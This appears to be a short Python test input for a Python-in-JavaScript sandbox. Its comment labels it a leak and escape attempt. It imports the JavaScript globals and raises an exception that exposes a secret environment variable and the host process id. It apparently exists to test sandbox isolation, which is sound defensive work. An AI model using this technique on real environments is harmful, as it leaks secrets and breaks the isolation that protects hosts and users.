# leak: imports the JavaScript globals as a module. Escape: LEAK with the process id or an environment variable.
import js

raise Exception('LEAK:' + str(js.process.env.TUNEDIFF_ATTACK_SECRET) + str(js.process.pid))
